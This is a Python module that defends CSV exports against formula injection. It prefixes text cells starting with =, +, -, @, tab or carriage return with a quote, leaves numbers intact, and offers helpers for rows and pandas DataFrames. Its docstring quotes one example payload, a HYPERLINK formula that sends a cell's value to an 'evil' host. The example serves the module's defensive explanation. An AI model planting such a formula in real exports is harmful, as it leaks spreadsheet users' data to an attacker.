"""CSV cells a spreadsheet will not run: the one rule every export uses (the studio and the batch CLI).

A spreadsheet (Excel, LibreOffice, Google Sheets) evaluates a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and a leading tab or carriage return can hide such a start. A reader's
comment like ``=HYPERLINK("http://evil?x="&A1,"click")`` in ``answers.csv`` would then run on the
admin's machine (CSV / formula injection). The OWASP rule is applied to every cell we write:

* a **text** cell that starts with one of ``= + - @``, a tab or a carriage return is prefixed with a
  single quote (``'=1+1``): spreadsheets show it as text, and the quote makes the intent visible;
* **numbers stay numbers**: ``int``/``float`` values are never touched, and neither is a text cell
  that is a plain decimal number (``-1.5``, ``+2``, ``-3e-05``, as pandas or ``str()`` write them),
  because a spreadsheet reads those as numbers, not formulas, and analysis scripts need them intact.
  ``-1+2``, ``-A1`` or ``+inf`` are not plain numbers and are neutralised.

Use :func:`safe_cell` for one value, :func:`safe_row` for a ``csv.DictWriter`` row and
:func:`safe_frame` for a pandas DataFrame before ``to_csv``.
"""

from __future__ import annotations

import re
from typing import Any, Mapping

# OWASP "CSV Injection": the characters a formula (or a disguised one) can start with.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number with an optional sign and exponent: read as a number, never as a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def needs_quote(text: str) -> bool:
    """True when a spreadsheet could take ``text`` for a formula (see the module docstring)."""
    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text)


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written to a CSV cell: dangerous text prefixed with ``'``, all else unchanged."""
    if isinstance(value, str) and needs_quote(value):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every cell of a ``csv.DictWriter`` row through :func:`safe_cell`."""
    return {k: safe_cell(v) for k, v in row.items()}


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells (and column names) went through :func:`safe_cell`.

    Numeric columns are returned as they are, so ``to_csv`` writes negative numbers as numbers.
    """
    from pandas.api.types import is_bool_dtype, is_numeric_dtype

    out = frame.copy()
    for column in out.columns:
        # Text columns are object or (pandas >= 3) string dtype; numeric ones are left as they are.
        if not (is_numeric_dtype(out[column]) or is_bool_dtype(out[column])):
            out[column] = out[column].map(safe_cell).astype(object)
    out.columns = [safe_cell(c) for c in out.columns]
    return out
